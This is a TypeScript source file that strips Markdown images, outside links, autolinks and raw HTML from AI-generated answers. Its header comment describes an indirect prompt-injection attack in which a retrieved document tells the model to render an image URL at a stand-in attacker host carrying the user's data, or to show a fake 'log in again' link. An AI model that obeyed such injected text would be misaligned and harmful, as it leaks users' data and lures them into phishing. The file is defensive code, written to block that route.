/*
 * What a model may put in an answer, whatever its sources told it to do. Documents are untrusted
 * input: one can ask the model to render `![x](https://evil.example/?q=<the user's data>)`, which a
 * browser would fetch on sight, or to show a "log in again" link. So the stored answer carries no
 * Markdown image at all and no link except to this application's own pages (relative paths,
 * citations): a link's text stays, its target goes. The renderer applies the same rule while the
 * answer streams (components/chat/message-view.tsx), so neither the live nor the stored answer
 * can load or link anything outside.
 *
 * A bare URL quoted from a policy ("forms are at https://intranet.example/forms") stays as text:
 * it is what the document says, and the renderer shows it without making it a link.
 */

/** Targets an answer may link to: a path on this site (not protocol-relative) or a fragment. */
export function isInternalHref(href: string): boolean {
  const target = href.trim();
  // eslint-disable-next-line no-control-regex -- control characters in a URL are exactly what is refused
  return /^#[\w-]*$/.test(target) || (/^\/(?![/\\])/.test(target) && !/[\u0000-\u001f\\]/.test(target));
}

// `[text](target "title")` and `![alt](target)`, with one level of nested brackets in the text
// (link text that itself holds a citation `[1]`), and `<scheme:...>` autolinks.
const INLINE = /(!?)\[((?:[^[\]\n]|\[[^[\]\n]*\])*)\]\(\s*(<[^>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\)))?\s*\)/g;
const AUTOLINK = /<([a-z][a-z0-9+.-]{1,31}:[^\s<>]*)>/gi;
// `[text]: target` reference definitions, and the `![alt][ref]` / `[text][ref]` uses they feed.
const DEFINITION = /^ {0,3}\[[^\]\n]+\]:[ \t]*\S+.*$/gm;
const REFERENCE_IMAGE = /!\[([^\]\n]*)\]\[[^\]\n]*\]/g;
// Raw HTML an answer might carry; rendering skips it, but stored text should not keep it either.
const HTML_TAG = /<\/?[a-z][a-z0-9-]*(?:\s[^<>]*)?\/?>/gi;

/** The answer text with images, outside links, autolinks and raw HTML tags removed; link text kept. */
export function applyOutputPolicy(text: string): string {
  return text
    .replace(DEFINITION, "")
    .replace(REFERENCE_IMAGE, "$1")
    .replace(INLINE, (whole, bang: string, label: string, rawTarget: string) => {
      if (bang) return label;
      const target = rawTarget.replace(/^<|>$/g, "");
      return isInternalHref(target) ? whole : label;
    })
    .replace(AUTOLINK, (_whole, url: string) => url)
    .replace(HTML_TAG, "");
}
